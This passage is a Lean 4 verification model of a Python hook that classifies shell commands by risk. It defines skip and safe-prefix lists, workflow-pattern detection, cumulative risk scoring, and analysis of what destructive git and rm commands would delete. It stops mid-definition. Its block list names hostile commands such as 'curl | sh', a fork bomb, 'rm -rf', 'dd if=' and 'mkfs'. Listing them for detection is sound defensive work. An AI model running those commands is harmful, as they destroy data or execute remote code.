import Mathlib

/-!
Verification development for the Deliberate command-risk decision engine
(`hooks/deliberate-commands.py`).

Shallow embedding conventions:
* Python strings that are inspected character by character (commands, paths,
  file contents) are modelled as `List Char`; short tag-like strings (risk
  levels, sources, pattern names) are modelled as Lean `String`.
* I/O interactions (the network classifier, the LLM subprocess, `git`
  subprocesses, the filesystem, the current time, the md5 digest primitive)
  are modelled as explicit oracle inputs: each oracle field stands for the
  result of exactly one of those calls during one invocation of the hook.
* Python `dict` session state is modelled by the `History` structure and the
  per-session shown-warning set by a list of keys; the hook's load/save of
  those files is modelled by explicit state passing.
-/

namespace Deliberate

/-- Python whitespace (`str.strip`, regex `\s`): space, tab, LF, CR, VT, FF. -/
def pyIsSpace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c = '\x0b' || c = '\x0c'

/-- Python `str.lower`, character-wise (ASCII commands in practice). -/
def lowerStr (l : List Char) : List Char := l.map Char.toLower

/-- Python `str.strip()`: drop leading and trailing whitespace. -/
def pyStrip (l : List Char) : List Char :=
  ((l.dropWhile pyIsSpace).reverse.dropWhile pyIsSpace).reverse

/-- Python `sub in s` (substring containment). -/
def containsSub (s sub : List Char) : Bool := decide (sub <:+: s)

/-- Python `s.split` at newline characters (here always applied after `.strip()`). -/
def splitLines (l : List Char) : List (List Char) :=
  l.splitOn '\n'

/-- Python `s.split()` : split on runs of whitespace, no empty parts. -/
def splitWs (l : List Char) : List (List Char) :=
  ((l.splitOnP pyIsSpace).filter (fun p => !p.isEmpty))

/-- Python `s.split(sep)` for a multi-character separator `sep`.
Splits on non-overlapping left-to-right occurrences of `sep`. -/
def splitOnSubAux (sep : List Char) : Nat → List Char → List Char → List (List Char)
  | 0, acc, l => [acc.reverse ++ l]
  | _ + 1, acc, [] => [acc.reverse]
  | fuel + 1, acc, c :: rest =>
    if sep.isPrefixOf (c :: rest) then
      acc.reverse :: splitOnSubAux sep fuel [] ((c :: rest).drop sep.length)
    else
      splitOnSubAux sep fuel (c :: acc) rest

/-- Python `s.split(sep)` (with non-empty `sep`). -/
def splitOnSub (l sep : List Char) : List (List Char) :=
  splitOnSubAux sep (l.length + 1) [] l

-- ---------------------------------------------------------------------------
-- 4.1 Pattern matcher (skip list, shell operators, fallback classification)
-- ---------------------------------------------------------------------------

/-- `DEFAULT_SKIP_COMMANDS`: trivial commands skipped entirely. -/
def DEFAULT_SKIP_COMMANDS : List (List Char) :=
  ["ls", "ll", "la", "dir", "tree",
   "pwd", "whoami", "hostname", "date", "uptime", "uname",
   "which", "whereis", "type -t", "type -a",
   "git status", "git log", "git diff", "git branch", "git remote -v",
   "git blame", "git shortlog", "git tag", "git stash list"].map String.toList

/-- `DANGEROUS_SHELL_OPERATORS`: chaining/piping/redirection operators. -/
def DANGEROUS_SHELL_OPERATORS : List (List Char) :=
  ["|", ">", ">>", ";", "&&", "||", "`", "$(", "<", "&"].map String.toList

/-- `has_dangerous_operators`: any operator occurs in the command. -/
def has_dangerous_operators (command : List Char) : Bool :=
  DANGEROUS_SHELL_OPERATORS.any (fun op => containsSub command op)

/-- `should_skip_command`: trimmed command equals a skip token or starts with
one followed by a space or tab, and the trimmed command has no dangerous
shell operator. -/
def should_skip_command (command : List Char) (skip_set : List (List Char)) : Bool :=
  let cmd_stripped := pyStrip command
  if has_dangerous_operators cmd_stripped then false
  else
    skip_set.any (fun skip_cmd =>
      cmd_stripped == skip_cmd ||
      (skip_cmd ++ [' ']).isPrefixOf cmd_stripped ||
      (skip_cmd ++ ['\t']).isPrefixOf cmd_stripped)

/-- `SAFE_PREFIXES`: fallback list of always-safe command starts. -/
def SAFE_PREFIXES : List (List Char) :=
  ["ls", "pwd", "echo", "cat", "head", "tail", "wc", "which", "whoami",
   "date", "cal", "uptime", "hostname", "uname", "env", "printenv",
   "cd", "pushd", "popd", "dirs",
   "git status", "git log", "git diff", "git branch", "git show",
   "npm list", "npm outdated", "npm --version", "node --version",
   "python --version", "python3 --version", "pip list", "pip show",
   "pgrep", "ps aux", "top -l", "htop"].map String.toList

/-- `DANGEROUS_PATTERNS`: fallback list of dangerous substrings. -/
def DANGEROUS_PATTERNS : List (List Char) :=
  ["rm -rf", "rm -r", "rmdir",
   "sudo", "su ",
   "> /dev/", "dd if=",
   "chmod 777", "chmod -R",
   "mkfs", "fdisk", "parted",
   ":()\x7b :|:& \x7d;:",
   "curl | sh", "curl | bash", "wget | sh", "wget | bash",
   "DROP ", "DELETE FROM", "TRUNCATE",
   "kubectl delete", "kubectl exec",
   "docker rm", "docker rmi", "docker system prune",
   "aws s3 rm", "aws ec2 terminate",
   "terraform destroy",
   "systemctl stop", "systemctl disable",
   "kill -9", "killall", "pkill"].map String.toList

/-- `is_safe_command`: stripped, lowered command starts with a safe entry. -/
def is_safe_command (command : List Char) : Bool :=
  let cmd_lower := lowerStr (pyStrip command)
  SAFE_PREFIXES.any (fun p => (lowerStr p).isPrefixOf cmd_lower)

/-- `is_dangerous_command`: lowered command contains a dangerous substring. -/
def is_dangerous_command (command : List Char) : Bool :=
  let cmd_lower := lowerStr command
  DANGEROUS_PATTERNS.any (fun p => containsSub cmd_lower (lowerStr p))

-- ---------------------------------------------------------------------------
-- Session history data model
-- ---------------------------------------------------------------------------

/-- One entry of the `commands` list of a session. -/
structure CommandRecord where
  command : List Char
  risk : String
  explanation : List Char
  timestamp : String
deriving DecidableEq, Repr

/-- A detected workflow pattern is persisted as the JSON array
`[name, risk, description]`; the code reads it back positionally
(`pattern[1] if len(pattern) > 1 else "HIGH"`), so it is modelled as a
plain list of strings. -/
abbrev DetectedPattern := List String

/-- The per-session history record (`load_command_history` default shape). -/
structure History where
  commands : List CommandRecord
  cumulative_risk : String
  patterns_detected : List DetectedPattern
  files_at_risk : List (List Char)
deriving DecidableEq, Repr

/-- The default history created for a fresh session. -/
def default_history : History :=
  { commands := [], cumulative_risk := "LOW", patterns_detected := [], files_at_risk := [] }

-- ---------------------------------------------------------------------------
-- 4.4 Workflow pattern detector
-- ---------------------------------------------------------------------------

/-- One static entry of `WORKFLOW_PATTERNS`. -/
structure WorkflowPattern where
  name : String
  required : List (List Char)
  risk : String
  description : String

/-- `WORKFLOW_PATTERNS`: static catalog of dangerous command sequences. -/
def WORKFLOW_PATTERNS : List WorkflowPattern :=
  [⟨"REPO_WIPE", ["git rm", "git push --force"].map String.toList, "CRITICAL",
    "Repository wipe: removing files from git and force pushing rewrites history permanently"⟩,
   ⟨"REPO_WIPE", ["rm -rf", "git add", "git push --force"].map String.toList, "CRITICAL",
    "Repository restructure with force push: deleting files and force pushing can destroy code"⟩,
   ⟨"MASS_DELETE", ["rm -rf", "rm -rf", "rm -rf"].map String.toList, "HIGH",
    "Multiple recursive deletions in sequence - high risk of unintended data loss"⟩,
   ⟨"HISTORY_REWRITE", ["git reset --hard", "git push --force"].map String.toList, "CRITICAL",
    "History rewrite: hard reset + force push permanently destroys commit history"⟩,
   ⟨"HISTORY_REWRITE", ["git rebase", "git push --force"].map String.toList, "CRITICAL",
    "History rewrite: rebase + force push rewrites shared history"⟩,
   ⟨"UNCOMMITTED_RISK", ["git stash", "git checkout", "rm"].map String.toList, "HIGH",
    "Uncommitted changes at risk: stashing, switching branches, and deleting files"⟩,
   ⟨"TEMP_SWAP", ["cp", "rm -rf", "cp"].map String.toList, "HIGH",
    "Temp directory swap pattern: copying to temp, deleting original, copying back - easy to lose data"⟩,
   ⟨"ENV_DESTRUCTION", ["unset", "rm .env"].map String.toList, "HIGH",
    "Environment destruction: unsetting variables and deleting env files"⟩]

/-- Inner loop of the per-required-substring scan: first index `idx ≥ start`
of `recent` whose entry contains `required` case-insensitively.  The Python
loop uses `idx > last_idx`, i.e. `idx ≥ last_idx + 1`; `start` is that
`last_idx + 1` (initially 0, since `last_idx` starts at -1). -/
def findHitAux (required : List Char) (start : Nat) : List (List Char) → Nat → Option Nat
  | [], _ => none
  | cmd :: rest, idx =>
    if start ≤ idx && containsSub (lowerStr cmd) (lowerStr required) then some idx
    else findHitAux required start rest (idx + 1)

/-- Greedy matching of the required substrings of a pattern at strictly
increasing indices of the working sequence. -/
def matchRequired (recent : List (List Char)) : List (List Char) → Nat → Bool
  | [], _ => true
  | required :: rest, start =>
    match findHitAux required start recent 0 with
    | some i => matchRequired recent rest (i + 1)
    | none => false

/-- The working sequence of `detect_workflow_patterns`: the last 3 history
commands (`window_size` default, the only value used) plus the current one. -/
def recentCommands (history : History) (current_command : List Char) : List (List Char) :=
  let all_history_commands := history.commands.map (fun c => c.command)
  all_history_commands.drop (all_history_commands.length - 3) ++ [current_command]

/-- `detect_workflow_patterns` (with the default `window_size = 3` used at
every call site). -/
def detect_workflow_patterns (history : History) (current_command : List Char) :
    List DetectedPattern :=
  let recent := recentCommands history current_command
  WORKFLOW_PATTERNS.filterMap (fun wp =>
    if matchRequired recent wp.required 0 then
      some [wp.name, wp.risk, wp.description]
    else none)

-- ---------------------------------------------------------------------------
-- 4.5 Cumulative risk calculator
-- ---------------------------------------------------------------------------

/-- `RISK_LEVELS.get(risk, d)`: ordinal of a risk name with default `d`.
Note `SAFE` and `DANGEROUS` are not keys of `RISK_LEVELS`, so they take the
default. -/
def riskOrdD (risk : String) (d : Nat) : Nat :=
  if risk = "LOW" then 0
  else if risk = "MODERATE" then 1
  else if risk = "HIGH" then 2
  else if risk = "CRITICAL" then 3
  else d

/-- `RISK_NAMES.get(n, "MODERATE")`: name of an ordinal. -/
def riskName (n : Nat) : String :=
  if n = 0 then "LOW"
  else if n = 1 then "MODERATE"
  else if n = 2 then "HIGH"
  else if n = 3 then "CRITICAL"
  else "MODERATE"

/-- `pattern[1] if len(pattern) > 1 else "HIGH"`. -/
def patternRiskOf (pattern : DetectedPattern) : String :=
  match pattern with
  | _ :: r :: _ => r
  | _ => "HIGH"

/-- One iteration of the history fold in `calculate_cumulative_risk`:
accumulates (running max ordinal, count of DANGEROUS commands). -/
def cumulativeStep (acc : Nat × Nat) (cmd : CommandRecord) : Nat × Nat :=
  (max acc.1 (riskOrdD cmd.risk 1),
   if cmd.risk = "DANGEROUS" then acc.2 + 1 else acc.2)

/-- `calculate_cumulative_risk`. -/
def calculate_cumulative_risk (history : History) (current_risk : String) : String :=
  let folded := history.commands.foldl cumulativeStep (riskOrdD current_risk 1, 0)
  let dangerous_count := folded.2
  let max_risk1 :=
    if 5 ≤ dangerous_count then max folded.1 3
    else if 3 ≤ dangerous_count then max folded.1 2
    else folded.1
  let max_risk2 := history.patterns_detected.foldl
    (fun acc p => max acc (riskOrdD (patternRiskOf p) 2)) max_risk1
  riskName max_risk2

-- ---------------------------------------------------------------------------
-- `extract_affected_paths`: regex-level extraction of at-risk paths
-- ---------------------------------------------------------------------------

/-- Character class `[^\s|;&>]` used by the path-capture groups. -/
def pathCharOk (c : Char) : Bool :=
  !(pyIsSpace c || c = '|' || c = ';' || c = '&' || c = '>')

/-- `-[rfivd]` flag characters of the `rm` pattern. -/
def rmFlagChar (c : Char) : Bool :=
  c = 'r' || c = 'f' || c = 'i' || c = 'v' || c = 'd'

/-- `-[rf]` flag characters of the `git rm` pattern. -/
def gitRmFlagChar (c : Char) : Bool :=
  c = 'r' || c = 'f'

/-- `-[fiv]` flag characters of the `mv` pattern. -/
def mvFlagChar (c : Char) : Bool :=
  c = 'f' || c = 'i' || c = 'v'

/-- Greedy `[c]+` run: the non-empty maximal prefix of characters satisfying
`ok`, with the rest; `none` when the first character does not qualify. -/
def takeClassRun (ok : Char → Bool) (l : List Char) : Option (List Char × List Char) :=
  let run := l.takeWhile ok
  if run.isEmpty then none else some (run, l.drop run.length)

/-- Regex `\s+`: require at least one whitespace character, consume the run. -/
def chompWs1 : List Char → Option (List Char)
  | c :: rest => if pyIsSpace c then some (rest.dropWhile pyIsSpace) else none
  | [] => none

/-- Regex `-[flag]+\s+`: one flag group of the `(?:-[flag]+\s+)*` star. -/
def chompFlagGroup (flagChar : Char → Bool) : List Char → Option (List Char)
  | '-' :: rest =>
    let run := rest.takeWhile flagChar
    if run.isEmpty then none else chompWs1 (rest.drop run.length)
  | _ => none

/-- Regex `(?:-[flag]+\s+)*([^\s|;&>]+)` with backtracking: consume flag
groups greedily; if the remainder cannot start the capture, give back the
last group (whose leading `-` is itself a capture character). -/
def flagStarCapture (flagChar : Char → Bool) : Nat → List Char → Option (List Char × List Char)
  | 0, l => takeClassRun pathCharOk l
  | fuel + 1, l =>
    match chompFlagGroup flagChar l with
    | some rest =>
      match flagStarCapture flagChar fuel rest with
      | some r => some r
      | none => takeClassRun pathCharOk l
    | none => takeClassRun pathCharOk l

/-- Anchored attempt of `rm\s+(?:-[rfivd]+\s+)*([^\s|;&>]+)` at the head of
`l`; returns (capture, rest after the match). -/
def matchRmFindallAt (l : List Char) : Option (List Char × List Char) :=
  match l with
  | 'r' :: 'm' :: rest =>
    match chompWs1 rest with
    | some rest2 => flagStarCapture rmFlagChar rest2.length rest2
    | none => none
  | _ => none

/-- Anchored attempt of `git\s+rm\s+(?:-[rf]+\s+)*([^\s|;&>]+)`. -/
def matchGitRmFindallAt (l : List Char) : Option (List Char × List Char) :=
  match l with
  | 'g' :: 'i' :: 't' :: rest =>
    match chompWs1 rest with
    | some rest2 =>
      match rest2 with
      | 'r' :: 'm' :: rest3 =>
        match chompWs1 rest3 with
        | some rest4 => flagStarCapture gitRmFlagChar rest4.length rest4
        | none => none
      | _ => none
    | none => none
  | _ => none

/-- Capture step of the `mv` pattern: `([^\s|;&>]+)\s+` (the capture must be
followed by whitespace). -/
def takeClassRunWs (l : List Char) : Option (List Char × List Char) :=
  match takeClassRun pathCharOk l with
  | some (cap, rest) =>
    match chompWs1 rest with
    | some rest2 => some (cap, rest2)
    | none => none
  | none => none

/-- Regex `(?:-[fiv]+\s+)*([^\s|;&>]+)\s+` with backtracking, as in
`flagStarCapture` but with the trailing-whitespace requirement. -/
def flagStarCaptureWs (flagChar : Char → Bool) : Nat → List Char → Option (List Char × List Char)
  | 0, l => takeClassRunWs l
  | fuel + 1, l =>
    match chompFlagGroup flagChar l with
    | some rest =>
      match flagStarCaptureWs flagChar fuel rest with
      | some r => some r
      | none => takeClassRunWs l
    | none => takeClassRunWs l

/-- Anchored attempt of `mv\s+(?:-[fiv]+\s+)*([^\s|;&>]+)\s+`. -/
def matchMvFindallAt (l : List Char) : Option (List Char × List Char) :=
  match l with
  | 'm' :: 'v' :: rest =>
    match chompWs1 rest with
    | some rest2 => flagStarCaptureWs mvFlagChar rest2.length rest2
    | none => none
  | _ => none

/-- `re.findall` driver: scan left to right, at each position try the
anchored matcher; on success emit the capture and continue after the match,
otherwise advance one character. -/
def findallWith (matchAt : List Char → Option (List Char × List Char)) :
    Nat → List Char → List (List Char)
  | 0, _ => []
  | fuel + 1, l =>
    match matchAt l with
    | some (cap, rest) => cap :: findallWith matchAt fuel rest
    | none =>
      match l with
      | [] => []
      | _ :: t => findallWith matchAt fuel t

/-- `extract_affected_paths`: paths captured from `rm`, `git rm` and `mv`
commands, with flags and the special entries `.`, `..`, `/` filtered out. -/
def extract_affected_paths (command : List Char) : List (List Char) :=
  let fuel := command.length + 1
  let paths := findallWith matchRmFindallAt fuel command
    ++ findallWith matchGitRmFindallAt fuel command
    ++ findallWith matchMvFindallAt fuel command
  paths.filter (fun p =>
    !(['-'].isPrefixOf p) && !(p == ['.']) && !(p == ['.', '.']) && !(p == ['/']))

-- ---------------------------------------------------------------------------
-- `add_command_to_history`
-- ---------------------------------------------------------------------------

/-- The `CommandRecord` appended by `add_command_to_history` (command
truncated to 500 characters, explanation to 200). -/
def histEntry (command : List Char) (risk : String) (explanation : List Char)
    (timestamp : String) : CommandRecord :=
  { command := command.take 500, risk := risk,
    explanation := explanation.take 200, timestamp := timestamp }

/-- The `for x in xs: if x not in acc: acc.append(x)` loop used for both
`patterns_detected` and `files_at_risk`. -/
def appendUnique {α : Type} [BEq α] : List α → List α → List α
  | init, [] => init
  | init, p :: ps => appendUnique (if init.contains p then init else init ++ [p]) ps

/-- `add_command_to_history`, as a pure state transformer on the session
history (the Python function loads the history, mutates it and saves it;
the `datetime.now()` timestamp is an oracle argument).  The caller passes
`risk or "MODERATE"` and `explanation or ""`; those guards live in
`runMain`. -/
def add_command_to_history (history : History) (command : List Char) (risk : String)
    (explanation : List Char) (timestamp : String) : History :=
  let commands1 := history.commands ++ [histEntry command risk explanation timestamp]
  let commands2 :=
    if 50 < commands1.length then commands1.drop (commands1.length - 50) else commands1
  let history1 : History := { history with commands := commands2 }
  let patterns := detect_workflow_patterns history1 command
  let patterns2 := appendUnique history1.patterns_detected patterns
  let history2 : History := { history1 with patterns_detected := patterns2 }
  let history3 : History :=
    { history2 with cumulative_risk := calculate_cumulative_risk history2 risk }
  let files1 := appendUnique history3.files_at_risk (extract_affected_paths command)
  let files2 := if 100 < files1.length then files1.drop (files1.length - 100) else files1
  { history3 with files_at_risk := files2 }

-- ---------------------------------------------------------------------------
-- 4.3 Destruction consequence analyzer
-- ---------------------------------------------------------------------------

/-- A filesystem node as observed by the hook: a regular file with its byte
size and line count, or a directory with the full recursive list of file
paths that `os.walk` would enumerate beneath it. -/
inductive FsNode where
  | file (size : Nat) (lines : Nat)
  | dir (walk : List (List Char))
deriving DecidableEq

/-- Oracle for the I/O of the analyzer during one invocation: the filesystem
(`os.path.isfile`/`isdir`/`exists`, `os.walk`, sizes and line counts),
`glob.glob`, the home directory, and the stdout of each `git` subprocess.
`none` for a git field models a non-zero exit status, a missing `git`
binary, or a timeout (all of which the source treats alike). -/
structure Env where
  fs : List Char → Option FsNode
  glob : List Char → List (List Char)
  home : List Char
  gitStatusPorcelain : Option (List Char)
  gitDiffHeadStat : Option (List Char)
  gitCleanDry : Option (List Char)
  gitDiffNameOnly : Option (List Char)
  gitDiffStat : Option (List Char)
  gitStashShow : List Char → Option (List Char)

/-- `TEXT_EXTENSIONS`. -/
def TEXT_EXTENSIONS : List (List Char) :=
  [".py", ".js", ".ts", ".tsx", ".jsx", ".json", ".yaml", ".yml",
   ".md", ".txt", ".sh", ".bash", ".zsh", ".fish",
   ".html", ".css", ".scss", ".sass", ".less",
   ".java", ".kt", ".scala", ".go", ".rs", ".rb", ".php",
   ".c", ".cpp", ".h", ".hpp", ".cs", ".swift", ".m",
   ".sql", ".graphql", ".proto", ".xml", ".toml", ".ini", ".cfg",
   ".env", ".gitignore", ".dockerignore", "Makefile", "Dockerfile",
   ".vue", ".svelte", ".astro"].map String.toList

/-- `os.path.basename`: the part after the last `/`. -/
def pathBasename (p : List Char) : List Char :=
  (p.reverse.takeWhile (fun c => c ≠ '/')).reverse

/-- Extension part of `os.path.splitext` (leading dots of the basename are
not split points, matching Python). -/
def splitextExt (p : List Char) : List Char :=
  let b := pathBasename p
  let core := b.drop (b.takeWhile (fun c => c = '.')).length
  if core.contains '.' then
    '.' :: (core.reverse.takeWhile (fun c => c ≠ '.')).reverse
  else []

/-- `_is_text_file`. -/
def _is_text_file (path : List Char) : Bool :=
  TEXT_EXTENSIONS.contains (lowerStr (splitextExt path)) ||
  TEXT_EXTENSIONS.contains (pathBasename path)

/-- `_count_file_stats`: (byte size, line count for recognized text files).
A missing path, or a path that cannot be opened (the Python `except` arm,
which also catches opening a directory), yields `(0, 0)`. -/
def count_file_stats (env : Env) (filepath : List Char) : Nat × Nat :=
  match env.fs filepath with
  | some (FsNode.file size lines) => (size, if _is_text_file filepath then lines else 0)
  | _ => (0, 0)

/-- `os.path.isabs`. -/
def isAbsPath (p : List Char) : Bool := p.head? = some '/'

/-- `os.path.join cwd p` for a relative `p`. -/
def joinPath (cwd p : List Char) : List Char :=
  if cwd = [] then p
  else if cwd.getLast? = some '/' then cwd ++ p
  else cwd ++ '/' :: p

/-- `os.path.expanduser`: expand a leading plain `~`; the `~user` form is
left unchanged (no user database is modelled). -/
def expandUser (env : Env) (p : List Char) : List Char :=
  match p with
  | '~' :: rest =>
    match rest with
    | [] => env.home
    | '/' :: _ => env.home ++ rest
    | _ => p
  | _ => p

/-- The consequence record built by the analyzer (the `consequences` dict).
The human-readable `warning` text is kept as an abstract non-empty summary:
its exact rendering (pluralization, thousands separators, colors) is
presentation, out of scope of the analyzed properties. -/
structure Consequence where
  files : List (List Char)
  dirs : List (List Char)
  total_lines : Nat
  total_size : Nat
  warning : String
  type : Option String
deriving DecidableEq

/-- The freshly initialized `consequences` dict. -/
def empty_consequences : Consequence :=
  { files := [], dirs := [], total_lines := 0, total_size := 0, warning := "", type := none }

/-- `_analyze_path`: add one existing path (file, or directory with its
walked file members) to the accumulating consequences. -/
def _analyze_path (env : Env) (path : List Char) (c : Consequence) : Consequence :=
  match env.fs path with
  | some (FsNode.file _ _) =>
    let st := count_file_stats env path
    { c with files := c.files ++ [path],
             total_size := c.total_size + st.1, total_lines := c.total_lines + st.2 }
  | some (FsNode.dir walk) =>
    walk.foldl (fun acc fp =>
      let st := count_file_stats env fp
      { acc with files := acc.files ++ [fp],
                 total_size := acc.total_size + st.1, total_lines := acc.total_lines + st.2 })
      { c with dirs := c.dirs ++ [path] }
  | none => c

/-- The check `status[0] in "MA" or status[1] in "MA"` on a porcelain status field. -/
def statusMA (status : List Char) : Bool :=
  (match status.get? 0 with | some c => c = 'M' || c = 'A' | none => false) ||
  (match status.get? 1 with | some c => c = 'M' || c = 'A' | none => false)

/-- `_analyze_git_reset_hard`. -/
def _analyze_git_reset_hard (cwd : List Char) (env : Env) : Option Consequence :=
  match env.gitStatusPorcelain with
  | none => none
  | some out =>
    if pyStrip out = [] then none
    else
      let c0 : Consequence := { empty_consequences with type := some "git_reset_hard" }
      let c1 := (splitLines (pyStrip out)).foldl (fun acc line =>
        if 3 ≤ line.length then
          let status := line.take 2
          let filepath0 := pyStrip (line.drop 3)
          let filepath :=
            if containsSub filepath0 (" -> ".toList) then
              match (splitOnSub filepath0 (" -> ".toList)).get? 1 with
              | some x => x
              | none => filepath0
            else filepath0
          let full_path := joinPath cwd filepath
          if statusMA status then
            let acc1 := { acc with files := acc.files ++ [filepath] }
            if (env.fs full_path).isSome then
              let st := count_file_stats env full_path
              { acc1 with total_size := acc1.total_size + st.1,
                          total_lines := acc1.total_lines + st.2 }
            else acc1
          else acc
        else acc) c0
      match env.gitDiffHeadStat with
      | none => none
      | some _ =>
        if c1.files = [] then none
        else some { c1 with warning := "UNCOMMITTED CHANGES WILL BE DISCARDED" }

/-- `_analyze_git_clean`. -/
def _analyze_git_clean (cwd : List Char) (env : Env) : Option Consequence :=
  match env.gitCleanDry with
  | none => none
  | some out =>
    if pyStrip out = [] then none
    else
      let c0 : Consequence := { empty_consequences with type := some "git_clean" }
      let c1 := (splitLines (pyStrip out)).foldl (fun acc line =>
        if ("Would remove ".toList).isPrefixOf line then
          let filepath := pyStrip (line.drop ("Would remove ".toList).length)
          let full_path := joinPath cwd filepath
          match env.fs full_path with
          | some (FsNode.dir walk) =>
            walk.foldl (fun a fp =>
              let st := count_file_stats env fp
              { a with files := a.files ++ [fp],
                       total_size := a.total_size + st.1, total_lines := a.total_lines + st.2 })
              { acc with dirs := acc.dirs ++ [filepath] }
          | some (FsNode.file _ _) =>
            let st := count_file_stats env full_path
            { acc with files := acc.files ++ [filepath],
                       total_size := acc.total_size + st.1, total_lines := acc.total_lines + st.2 }
          | none => { acc with files := acc.files ++ [filepath] }
        else acc) c0
      if c1.files = [] ∧ c1.dirs = [] then none
      else some { c1 with warning := "UNTRACKED FILES WILL BE DELETED" }

/-- `_analyze_git_checkout_discard`. -/
def _analyze_git_checkout_discard (cwd : List Char) (env : Env) : Option Consequence :=
  match env.gitDiffNameOnly with
  | none => none
  | some out =>
    if pyStrip out = [] then none
    else
      let c0 : Consequence := { empty_consequences with type := some "git_checkout_discard" }
      let c1 := (splitLines (pyStrip out)).foldl (fun acc line =>
        let filepath := pyStrip line
        if filepath = [] then acc
        else
          let acc1 := { acc with files := acc.files ++ [filepath] }
          let full_path := joinPath cwd filepath
          if (env.fs full_path).isSome then
            let st := count_file_stats env full_path
            { acc1 with total_size := acc1.total_size + st.1,
                        total_lines := acc1.total_lines + st.2 }
          else acc1) c0
      if c1.files = [] then none
      else
        match env.gitDiffStat with
        | none => none
        | some _ => some { c1 with warning := "UNCOMMITTED CHANGES WILL BE DISCARDED" }

/-- Anchored attempt of `stash@\{(\d+)\}`: the captured digit group. -/
def findStashNumAt (l : List Char) : Option (List Char) :=
  if ("stash@\x7b".toList).isPrefixOf l then
    let rest := l.drop 7
    let digits := rest.takeWhile Char.isDigit
    if !digits.isEmpty && (rest.drop digits.length).head? = some '\x7d' then some digits
    else none
  else none

/-- `re.search` of the stash-reference pattern over the command: first match, scanning left to
right. -/
def findStashNum : Nat → List Char → Option (List Char)
  | 0, _ => none
  | fuel + 1, l =>
    match findStashNumAt l with
    | some d => some d
    | none =>
      match l with
      | [] => none
      | _ :: t => findStashNum fuel t

/-- `_analyze_git_stash_drop`. -/
def _analyze_git_stash_drop (cwd : List Char) (command : List Char) (env : Env) :
    Option Consequence :=
  let _ := cwd
  let stash_ref : List Char :=
    match findStashNum (command.length + 1) command with
    | some digits => "stash@\x7b".toList ++ digits ++ ['\x7d']
    | none => "stash@\x7b0\x7d".toList
  match env.gitStashShow stash_ref with
  | none => none
  | some out =>
    let c0 : Consequence := { empty_consequences with type := some "git_stash_drop" }
    let c1 := (splitLines (pyStrip out)).foldl (fun acc line =>
      if containsSub line ['|'] then
        let filepath := pyStrip ((splitOnSub line ['|']).headD [])
        if filepath ≠ [] then { acc with files := acc.files ++ [filepath] } else acc
      else acc) c0
    if c1.files = [] then none
    else some { c1 with warning := "STASH WILL BE PERMANENTLY DELETED" }

-- Dispatch regexes of `get_destruction_consequences`.

/-- Anchored attempt of literal tokens separated by `\s+`
(e.g. `git\s+reset\s+--hard`). -/
def matchSeqAt : List (List Char) → List Char → Bool
  | [], _ => true
  | [t], l => t.isPrefixOf l
  | t :: ts, l =>
    if t.isPrefixOf l then
      match chompWs1 (l.drop t.length) with
      | some rest => matchSeqAt ts rest
      | none => false
    else false

/-- `re.search` of literal tokens separated by `\s+`. -/
def searchSeq (toks : List (List Char)) : Nat → List Char → Bool
  | 0, _ => false
  | fuel + 1, l =>
    if matchSeqAt toks l then true
    else
      match l with
      | [] => false
      | _ :: t => searchSeq toks fuel t

/-- Anchored attempt of `git\s+checkout\s+\.\s*$`. -/
def matchCheckoutDotAt (l : List Char) : Bool :=
  if ("git".toList).isPrefixOf l then
    match chompWs1 (l.drop 3) with
    | some r1 =>
      if ("checkout".toList).isPrefixOf r1 then
        match chompWs1 (r1.drop 8) with
        | some r2 =>
          match r2 with
          | '.' :: r3 => (r3.dropWhile pyIsSpace).isEmpty
          | _ => false
        | none => false
      else false
    | none => false
  else false

/-- `re.search` of `git\s+checkout\s+\.\s*$` over the command. -/
def searchCheckoutDot : Nat → List Char → Bool
  | 0, _ => false
  | fuel + 1, l =>
    if matchCheckoutDotAt l then true
    else
      match l with
      | [] => false
      | _ :: t => searchCheckoutDot fuel t

/-- `[|;&>]` after optional whitespace: tail alternative `\s*[|;&>]` of the
closing group of the lazy capture. -/
def opAfterWs (l : List Char) : Bool :=
  match l.dropWhile pyIsSpace with
  | c :: _ => c = '|' || c = ';' || c = '&' || c = '>'
  | [] => false

/-- Lazy `(.+?)(?:\s*[|;&>]|$)`: shortest non-empty capture (never crossing
a newline, since `.` does not match one) whose remainder is empty or starts
with optional whitespace and a `[|;&>]` operator. -/
def lazyCaptureGo : List Char → List Char → Option (List Char × List Char)
  | acc, [] => if acc ≠ [] then some (acc.reverse, []) else none
  | acc, c :: rs =>
    if acc ≠ [] ∧ opAfterWs (c :: rs) then some (acc.reverse, c :: rs)
    else if c = '\n' then none
    else lazyCaptureGo (c :: acc) rs

/-- Regex `(?:-[flag]+\s+)*(.+?)(?:\s*[|;&>]|$)` with star backtracking. -/
def flagStarLazy (flagChar : Char → Bool) : Nat → List Char → Option (List Char × List Char)
  | 0, l => lazyCaptureGo [] l
  | fuel + 1, l =>
    match chompFlagGroup flagChar l with
    | some rest =>
      match flagStarLazy flagChar fuel rest with
      | some r => some r
      | none => lazyCaptureGo [] l
    | none => lazyCaptureGo [] l

/-- Anchored attempt of `rm\s+(?:-[rfivd]+\s+)*(.+?)(?:\s*[|;&>]|$)`. -/
def matchRmConsAt (l : List Char) : Option (List Char × List Char) :=
  match l with
  | 'r' :: 'm' :: rest =>
    match chompWs1 rest with
    | some rest2 => flagStarLazy rmFlagChar rest2.length rest2
    | none => none
  | _ => none

/-- Anchored attempt of `git\s+rm\s+(?:-[rf]+\s+)*(.+?)(?:\s*[|;&>]|$)`. -/
def matchGitRmConsAt (l : List Char) : Option (List Char × List Char) :=
  match l with
  | 'g' :: 'i' :: 't' :: rest =>
    match chompWs1 rest with
    | some rest2 =>
      match rest2 with
      | 'r' :: 'm' :: rest3 =>
        match chompWs1 rest3 with
        | some rest4 => flagStarLazy gitRmFlagChar rest4.length rest4
        | none => none
      | _ => none
    | none => none
  | _ => none

/-- `re.search` driver returning the first capture group. -/
def searchWith (matchAt : List Char → Option (List Char × List Char)) :
    Nat → List Char → Option (List Char)
  | 0, _ => none
  | fuel + 1, l =>
    match matchAt l with
    | some (cap, _) => some cap
    | none =>
      match l with
      | [] => none
      | _ :: t => searchWith matchAt fuel t

/-- `get_destruction_consequences`. -/
def get_destruction_consequences (command cwd : List Char) (env : Env) :
    Option Consequence :=
  if searchSeq (["git", "reset", "--hard"].map String.toList) (command.length + 1) command then
    _analyze_git_reset_hard cwd env
  else if searchSeq (["git", "clean"].map String.toList) (command.length + 1) command then
    _analyze_git_clean cwd env
  else if searchSeq (["git", "checkout", "--"].map String.toList) (command.length + 1) command
      || searchCheckoutDot (command.length + 1) command then
